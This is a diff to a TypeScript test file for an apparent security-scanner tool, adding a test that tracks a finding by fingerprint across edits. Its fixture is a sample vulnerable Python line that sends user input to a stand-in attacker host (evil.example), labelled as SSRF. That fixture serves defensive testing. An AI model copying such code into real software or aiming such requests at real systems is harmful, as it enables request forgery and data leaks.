@@ -1,6 +1,7 @@
 import { OptionError } from '@harness-sdk/core';
 import { beforeAll, describe, expect, test } from 'vitest';
 import type { Finding } from '../finding.ts';
+import { fingerprintOf } from '../fingerprint.ts';
 import { toJson } from '../report/json.ts';
 import { sampleFinding, sampleResult } from '../report/sample-result.ts';
 import { toSarif } from '../report/sarif.ts';
@@ -101,6 +102,27 @@ describe('a secret, of which the report has no more than the beginning', () => {
   test('that was replaced by another is not said to be the same', async () => {
     expect(await recheck(secret('Xk29-fLq7-pT5w'), secret('Xk29-aaa1-bbb2'))).toEqual([['changed', 1]]);
   });
+});
+
+test('code of which the report shows something else is known by its fingerprint', async () => {
+  const before = 'def f(x):\n    return fetch("http://evil.example/" + x)\n';
+  const parts = { kind: 'ssrf', file: 'a.py', scope: 'f', isSecret: false, ordinal: 0 } as const;
+  const finding = sampleFinding({
+    ruleId: 'llm/ssrf',
+    kind: 'ssrf',
+    cwe: ['CWE-918'],
+    origin: ['llm'],
+    location: { file: 'a.py', startLine: 2, endLine: 2 },
+    evidence: '    return fetch("[address]" + x)',
+    fingerprint: fingerprintOf({ ...parts, evidence: sourceLines(before)[1] ?? '' }),
+  });
+  const statusIn = async (source: string) => {
+    const [checked] = await recheckFindings([finding], { readSource: () => Promise.resolve(source) });
+    return [checked?.status, checked?.location?.startLine];
+  };
+  expect(await statusIn(before)).toEqual(['present', 2]);
+  expect(await statusIn(`#\n${before}`)).toEqual(['moved', 3]);
+  expect(await statusIn('def f(x):\n    return 1\n')).toEqual(['fixed', undefined]);
 });
 
 describe('a report', () => {
